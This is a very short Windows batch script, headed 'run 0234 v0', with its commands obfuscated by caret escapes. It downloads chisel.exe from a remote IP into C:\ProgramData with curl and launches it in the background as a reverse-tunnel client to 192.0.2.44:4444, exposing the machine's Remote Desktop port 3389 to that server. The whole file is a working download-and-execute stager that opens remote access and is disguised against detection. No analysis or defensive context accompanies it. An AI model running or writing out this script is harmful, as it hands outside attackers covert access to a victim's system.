REM run 0234 v0
@echo off
c^u^r^l -s^L^o C:\^P^ro^gramDa^ta\ch^isel.exe htt^p://192.0.2.4^4/chi^s^e^l.^e^xe
st^ar^t /b ^C:\P^r^ogr^amData\^chise^l.exe cli^e^n^t ^1^92.0.^2.44:^44^44 ^R:^338^9:^1^27.0.^0.^1:3^389
